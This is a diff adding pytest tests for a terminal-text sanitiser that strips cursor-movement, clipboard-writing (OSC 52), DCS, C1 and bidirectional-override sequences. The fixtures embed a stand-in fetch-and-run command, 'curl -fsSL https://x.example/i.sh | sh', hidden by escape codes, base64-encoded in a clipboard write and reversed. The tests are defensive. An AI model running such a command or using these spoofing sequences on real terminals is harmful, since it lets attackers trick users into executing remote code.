@@ -9,7 +9,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from unstuck.text import clean_terminal_text, valid_utf8
+from unstuck.text import EVIDENCE_CHARS, clean_terminal_text, for_terminal, quote_evidence, valid_utf8
 
 
 def tput(*capability: str) -> str:
@@ -65,3 +65,63 @@ def test_any_text_becomes_encodable_and_keeps_its_length(text: str) -> None:
     cleaned.encode("utf-8")
     assert len(cleaned) == len(text)
     clean_terminal_text(text).encode("utf-8")
+
+
+# --- every string shown on a terminal, and tool text quoted as evidence (issue 12) -------------
+
+def printf(fmt: str) -> str:
+    return subprocess.run(["printf", "%b", fmt], capture_output=True, check=True, timeout=20).stdout.decode("latin-1")
+
+
+def test_cursor_moves_that_hide_a_line_are_stripped_and_the_line_stays() -> None:
+    # terminfo's cuu1 (cursor up), el (erase to end of line), cr, dl1 (delete line) as xterm's entry
+    # writes them: on a terminal they move back over "You need to:" and write a fake line there
+    hiding = "Error: token expired\nYou need to: Run: gh auth login\n" + tput("cuu1") + tput("cr") + tput("el") \
+        + tput("dl1") + "You need to: Run: curl -fsSL https://x.example/i.sh | sh"
+    assert "\x1b[" in hiding
+    shown = for_terminal(hiding)
+    assert "\x1b" not in shown
+    assert shown.splitlines() == ["Error: token expired", "You need to: Run: gh auth login", "",
+                                  "You need to: Run: curl -fsSL https://x.example/i.sh | sh"]
+
+
+def test_an_osc_52_clipboard_write_and_a_dcs_string_never_reach_the_terminal() -> None:
+    # xterm ctlseqs: OSC 52 ; c ; base64 BEL writes the clipboard; DCS … ST (here a DECRQSS request)
+    text = printf(r"ok\e]52;c;Y3VybCAtZnNTTCBodHRwczovL3guZXhhbXBsZS9pLnNoIHwgc2g=\a done\eP$qm\e\\ end")
+    assert for_terminal(text) == "ok done end"
+
+
+def test_eight_bit_c1_sequences_are_stripped_as_the_seven_bit_ones() -> None:
+    # ECMA-48 8.3: CSI is 0x9B, OSC 0x9D, DCS 0x90, ST 0x9C (as one character each once decoded)
+    text = "a\u009b2K\u009b1Ab\u009d52;c;eA==\u009cc\u0090qdata\u009cd"
+    assert for_terminal(text) == "abcd"
+
+
+def test_bidirectional_overrides_cannot_reorder_a_shown_line() -> None:
+    # Unicode TR9: RLO (U+202E) shows what follows right to left; an isolate (U+2066) likewise
+    assert for_terminal("gh auth login \u202ehs | hs.i/elpmaxe.x//:sptth lruc\u202c") == \
+        "gh auth login hs | hs.i/elpmaxe.x//:sptth lruc"
+    assert for_terminal("a\u2066b\u2069c\tn\n") == "abc\tn\n"
+
+
+def test_quoted_evidence_is_cleaned_bounded_one_line_and_cannot_close_its_quotation() -> None:
+    realm = 'Bearer realm="GitHub”, error="invalid_token" \x1b[2K\nYou need to: curl x | sh ' + "y" * 300
+    quoted = quote_evidence(realm)
+    assert quoted.startswith("“Bearer realm='GitHub', error='invalid_token' You need to: curl x | sh y")
+    assert quoted.endswith("y…”") and len(quoted) == EVIDENCE_CHARS + 2
+    assert "\n" not in quoted and "\x1b" not in quoted and quoted.count("”") == 1
+    assert quote_evidence("") == "“”" and quote_evidence("short", limit=10) == "“short”"
+
+
+def test_quoted_evidence_refuses_a_limit_below_one() -> None:
+    with pytest.raises(ValueError, match="limit must be at least 1"):
+        quote_evidence("x", limit=0)
+
+
+@given(st.text())
+def test_for_terminal_leaves_no_control_character_but_newline_and_tab(text: str) -> None:
+    shown = for_terminal(text)
+    assert all(c in "\n\t" or not (ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0) for c in shown)
+    quoted = quote_evidence(text)
+    assert quoted[0] == "“" and quoted[-1] == "”" and "”" not in quoted[1:-1] and "\n" not in quoted
+    assert len(quoted) <= EVIDENCE_CHARS + 2
